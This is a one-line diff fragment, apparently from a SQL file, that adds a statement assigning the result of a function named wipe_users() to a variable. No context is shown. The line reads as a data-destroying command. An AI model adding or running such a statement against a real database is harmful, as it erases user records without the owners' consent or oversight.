@@ -1,0 +1,1 @@
+SET @a = (SELECT wipe_users() FROM dual);
